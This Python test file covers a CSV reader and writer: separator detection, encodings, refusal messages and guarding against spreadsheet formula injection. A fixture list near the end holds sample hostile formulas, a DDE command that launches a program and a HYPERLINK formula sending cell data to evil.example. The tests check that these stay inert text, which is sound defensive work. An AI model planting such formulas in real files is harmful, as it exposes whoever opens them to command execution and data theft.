"""CSV: what other programs write is read, what is no table is refused in a sentence, nothing runs as a formula."""

import codecs
import contextlib
import csv
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from foresight.core.problems import Problem
from foresight.core.text import clean_prose
from foresight.core.words import speaking
from foresight.exchange.cells import columns, whole_number
from foresight.exchange.csv_files import SEPARATORS, read_csv, separator_of, write_csv
from foresight.exchange.formulas import RUNS, guarded, unguarded
from foresight.exchange.table import COLUMNS_MOST, ROWS_MOST, letters

SAMPLES = Path(__file__).parents[1] / "data" / "hostile" / "csv"
LETTERS = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@'\";,|\t\n ＝sep"), max_size=12)
TEXTS = LETTERS.map(clean_prose)


def rows_of(text: str) -> list[tuple[str, ...]]:
    """The rows of a CSV file with this text."""
    (sheet,) = read_csv(text.encode()).sheets
    return list(sheet.rows)


@pytest.mark.parametrize(
    ("text", "separator"),
    [
        ("1,5;2,5\n", ";"),
        ("a;b\n1,5;2,5\n3,5;4,5\n", ";"),
        ("a,b\nx,1.5\n", ","),
        ("a\tb\n1,5\t2;5\n", "\t"),
        ("a|b\n1|2\n", "|"),
        ('a,b\n"one; two",1\n"three; four",2\n', ","),
        ("a;b,c\n1;2\n3;4\n", ";"),
        ("name\nAnna\nNoah\n", ";"),
        ("", ";"),
    ],
)
def test_the_separator_is_the_one_that_all_lines_have_equally_often(text: str, separator: str) -> None:
    assert separator_of(text) == separator


def test_the_line_that_excel_writes_about_the_separator_counts_and_is_no_row() -> None:
    assert rows_of("sep=|\na,b|c;d\n1|2\n") == [("a,b", "c;d"), ("1", "2")]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_texts_in_unicode_come_as_they_are(encoding: str) -> None:
    book = read_csv("navn;verdi\r\nBlåbær €;1\r\n".encode(encoding))

    assert book.sheets[0].rows == (("navn", "verdi"), ("Blåbær €", "1"))
    assert book.remarks == ()


def test_what_is_not_unicode_is_read_as_windows_text_and_said_so() -> None:
    book = read_csv("navn;verdi\nBlåbær €;1\n".encode("cp1252"))

    assert book.sheets[0].rows[1] == ("Blåbær €", "1")
    assert [remark.what for remark in book.remarks] == [
        "The file is not in UTF-8 and was read as Windows-1252. Check letters such as æ, ø and å."
    ]


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "The file is empty."),
        (codecs.BOM_UTF8, "The file is empty."),
        (b" \r\n\r\n", "The file is empty."),
        (b";;\n;;\n", "The file is empty."),
        (b"a;b\nA\0;1\n", "The file is no text: there are zero bytes in it. Save it again as CSV in UTF-8."),
        (
            "a;b\n".encode("utf-16-le"),
            "The file is no text: there are zero bytes in it. Save it again as CSV in UTF-8.",
        ),
        (b"a;b\n\x81;1\n", "The letters of the file cannot be read. Save it again as CSV in UTF-8."),
        (
            b'a;b\n"open;1\n',
            "Row 2 cannot be read: a quotation mark there has no counterpart, or a cell is much too long.",
        ),
        (
            b"a;" + b"x" * 140_000,
            "Row 1 cannot be read: a quotation mark there has no counterpart, or a cell is much too long.",
        ),
        (b"a\n" * (ROWS_MOST + 1), "The table is too large: at most 20000 rows and 200 columns are read."),
        (b";" * COLUMNS_MOST, "The table is too large: at most 20000 rows and 200 columns are read."),
    ],
)
def test_what_is_no_table_is_refused_in_a_sentence(data: bytes, said: str) -> None:
    with pytest.raises(Problem) as refused:
        read_csv(data)

    assert refused.value.message == said


def test_rows_of_another_width_get_a_remark_each_and_blank_ones_none() -> None:
    book = read_csv(b"a;b\n1\n\n1;2;\n1;2;3;4\n")

    assert [remark.text for remark in book.remarks] == [
        "row 2: There are 1 cells where the first row has 2.",
        "row 5: There are 4 cells where the first row has 2.",
    ]


def test_line_breaks_of_every_kind_inside_and_between_cells() -> None:
    assert rows_of('a;b\r"x\r\ny";1\r\n"p\u2028q";2') == [("a", "b"), ("x\ny", "1"), ("p\nq", "2")]


@pytest.mark.parametrize(("language", "line"), [("en", "Trust,3,1.5"), ("nb", "Trust;3;1.5")])
def test_excel_opens_what_is_written_by_a_double_click(language: str, line: str) -> None:
    with speaking(language):  # type: ignore[arg-type]
        written = write_csv([["Trust", 3, 1.5]])

    assert written == codecs.BOM_UTF8 + line.encode() + b"\r\n"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-5", "- point", "@SUM(1)", "\t=1", "＝1", "'=1", "''-"])
def test_a_text_that_would_run_is_written_with_an_apostrophe_and_comes_back_without(text: str) -> None:
    written = write_csv([["a", "b"], [text, -5]]).decode("utf-8-sig")
    (_head, (cell, number)) = list(csv.reader(StringIO(written, newline="")))

    assert cell == "'" + text
    assert number == "-5"
    assert rows_of(written)[1] == (text, "-5")


@settings(deadline=None)
@given(LETTERS)
def test_no_guarded_text_begins_as_a_formula_and_guarding_can_be_taken_back(text: str) -> None:
    assert not guarded(text).startswith(RUNS)
    assert unguarded(guarded(text)) == text


@settings(deadline=None)
@given(st.lists(st.lists(TEXTS, min_size=1, max_size=4), min_size=1, max_size=5), st.sampled_from(SEPARATORS))
def test_what_is_written_is_read_back(table: list[list[str]], separator: str) -> None:
    width = max(map(len, table))
    rows = [["title", "b", "c", "d"][:width], *([*row, *[""] * (width - len(row))] for row in table)]
    while len(rows) > 1 and not any(cell.strip() for cell in rows[-1]):
        rows.pop()
    book = read_csv(write_csv(rows, separator))

    assert [list(row) for row in book.sheets[0].rows] == rows
    assert book.remarks == ()


@settings(deadline=None)
@given(st.binary(max_size=60) | st.text(st.sampled_from("a1;,\t|\"'\n\r=\0\ufeff"), max_size=40).map(str.encode))
def test_any_bytes_are_a_table_or_a_problem(data: bytes) -> None:
    with contextlib.suppress(Problem):
        book = read_csv(data)
        assert any(cell.strip() for row in book.sheets[0].rows for cell in row)


@pytest.mark.parametrize(("column", "name"), [(0, "A"), (25, "Z"), (26, "AA"), (701, "ZZ"), (702, "AAA")])
def test_columns_are_named_as_a_spreadsheet_names_them(column: int, name: str) -> None:
    assert letters(column) == name


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "- point"]
LOADED = {
    "comma_point.csv": [("A", "1.5")],
    "tab.csv": [("A", "1")],
    "minus.csv": [("A", "−5"), ("B", "-5"), ("C", "(5)"), ("D", "5-")],
    "embedded_newline.csv": [("A\nB", "1")],
    "sep_line.csv": [("A", "1")],
    "u2028.csv": [("A\nB", "1")],
    "utf16.csv": [("Blåbær", "1")],
    "bad_utf8.csv": [("ÿþú", "1")],
}
"""The rows below the heading of samples that are read."""


@pytest.mark.parametrize("name", LOADED)
def test_strange_but_sound_samples_are_read(name: str) -> None:
    book = read_csv((SAMPLES / name).read_bytes())

    assert list(book.sheets[0].rows[1:]) == LOADED[name]
    assert bool(book.remarks) == (name == "bad_utf8.csv")


@pytest.mark.parametrize("name", ["empty.csv", "only_bom.csv", "nul.csv"])
def test_samples_without_a_table_are_refused(name: str) -> None:
    with pytest.raises(Problem):
        read_csv((SAMPLES / name).read_bytes())


def test_the_sample_of_ragged_rows_gets_a_remark_on_each() -> None:
    book = read_csv((SAMPLES / "ragged.csv").read_bytes())

    assert [remark.where for remark in book.remarks] == ["row 2", "row 3"]


def test_the_sample_of_a_double_heading_is_refused_when_columns_are_sought() -> None:
    sheet = read_csv((SAMPLES / "dup_header.csv").read_bytes()).sheets[0]

    with pytest.raises(Problem, match="comes twice"):
        columns(sheet, {"title": "Name"}, ("title",))


def test_no_digit_of_another_script_or_of_python_is_a_number() -> None:
    sheet = read_csv((SAMPLES / "digits.csv").read_bytes()).sheets[0]

    assert [whole_number(sheet.cell(row, 1)) for row in range(1, len(sheet.rows))] == [None] * 7


def test_formulas_of_a_hostile_file_are_texts_and_leave_it_as_texts() -> None:
    rows = read_csv((SAMPLES / "formulas.csv").read_bytes()).sheets[0].rows
    written = write_csv(rows).decode("utf-8-sig")

    assert set(FORMULAS) <= {row[0] for row in rows}
    assert not [row for row in csv.reader(StringIO(written, newline="")) if row[0].startswith(RUNS)]
    assert read_csv(write_csv(rows)).sheets[0].rows == rows
